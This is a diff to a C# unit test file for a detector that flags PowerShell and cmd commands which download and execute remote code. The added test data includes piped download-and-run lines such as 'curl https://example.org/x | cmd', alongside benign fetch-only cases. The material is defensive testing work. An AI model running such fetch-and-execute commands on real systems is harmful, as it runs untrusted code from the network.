@@ -41,6 +41,9 @@ public class PowerShellScriptTests
     [InlineData("pwsh -Command { irm https://example.org/x | iex }")]
     [InlineData("irm https://example.org/x | pwsh -Command -")]
     [InlineData("irm https://example.org/x | powershell -")]
+    [InlineData("curl https://example.org/x | cmd")]
+    [InlineData("curl https://example.org/x | cmd.exe /q /k")]
+    [InlineData("cmd /c (irm https://example.org/x)")]
     [InlineData("irm https://example.org/x.py | python -")]
     [InlineData("cmd /c \"powershell -c irm https://example.org/x | iex\"")]
     [InlineData("msiexec /i https://example.org/x.msi /qn")]
@@ -108,6 +111,8 @@ public class PowerShellScriptTests
     [InlineData("iwr https://example.org/x.json -OutFile x.json; Get-Content x.json | ConvertFrom-Json")]
     [InlineData("iwr https://example.org/health | Out-Null; .\\serve.exe")]
     [InlineData("dotnet build; .\\bin\\app.exe")]
+    [InlineData("curl https://example.org/x | cmd /c \"findstr tag\"")]
+    [InlineData("cmd /c \"curl https://example.org/x\"")]
     [InlineData("@'\nirm https://example.org/x | iex\n'@ | Write-Host")]
     public void What_is_only_fetched_or_only_run_is_left_alone(string text) => Assert.Empty(PowerShellScript.FindFaults(text));
 
